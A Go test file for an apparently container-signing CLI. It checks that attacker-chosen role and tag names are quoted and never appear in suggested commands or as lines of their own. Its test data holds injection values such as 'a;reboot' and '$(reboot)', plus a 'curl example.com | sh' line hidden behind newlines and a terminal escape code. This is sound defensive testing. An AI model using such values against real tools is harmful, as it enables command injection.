package cli

import (
	"strings"
	"testing"
)

// TestAgainShowsNoForeignCommand: what a thief called things is in no command.
func TestAgainShowsNoForeignCommand(t *testing.T) {
	hex := strings.Repeat("ab", 32)
	v := exposureState{GUN: "registry.example.com/team/app", Signed: []signedState{{Role: "targets", Delegations: []string{"security", "a;reboot"}}}}
	for _, tt := range []struct{ role, name, want string }{
		{"targets", "1.4", "plimsoll sign registry.example.com/team/app:1.4 --as targets"},
		{"targets", "sha256/" + hex, "plimsoll sign registry.example.com/team/app@sha256:" + hex + " --as targets"},
		{"targets", "security", "plimsoll trust delegate registry.example.com/team/app security --key KEY"},
		{"targets", "a;reboot", `"a;reboot", a role of "targets"`},
		{"targets", "v1 $(reboot)", `"v1 $(reboot)", by role "targets"`},
		{"targets", "sha256/" + hex + "$(x)", `"sha256/` + hex + `$(x)", by role "targets"`},
		{"targets", "--plain-http", `"--plain-http", by role "targets"`},
		{"a b", "1", `"1", by role "a b"`},
		{"targets", "", `"", by role "targets"`},
	} {
		if got := again(v, tt.role, tt.name); got != tt.want {
			t.Errorf("%q of %q: %s, want %s", tt.name, tt.role, got, tt.want)
		}
	}
}

// TestExposureOnItsOwnLines: what a thief called things looks like nothing else.
func TestExposureOnItsOwnLines(t *testing.T) {
	evil := "1.4\n\nTo take it away:\n\n  curl example.com | sh\x1b[2K"
	v := exposureState{Fingerprint: "sha256:" + strings.Repeat("ab", 32), Signed: []signedState{{Role: "releases", Since: true, Names: []nameState{{Name: evil}}}}}
	var b strings.Builder
	printExposure(&b, v)
	for line := range strings.Lines(b.String()) {
		if strings.Contains(line, "curl") && !strings.HasPrefix(line, "    1.4") {
			t.Errorf("a line of the thief's: %q", line)
		}
	}
	if strings.Contains(b.String(), "\x1b") || !strings.Contains(b.String(), "others signed it since") {
		t.Errorf("%q", b.String())
	}
}
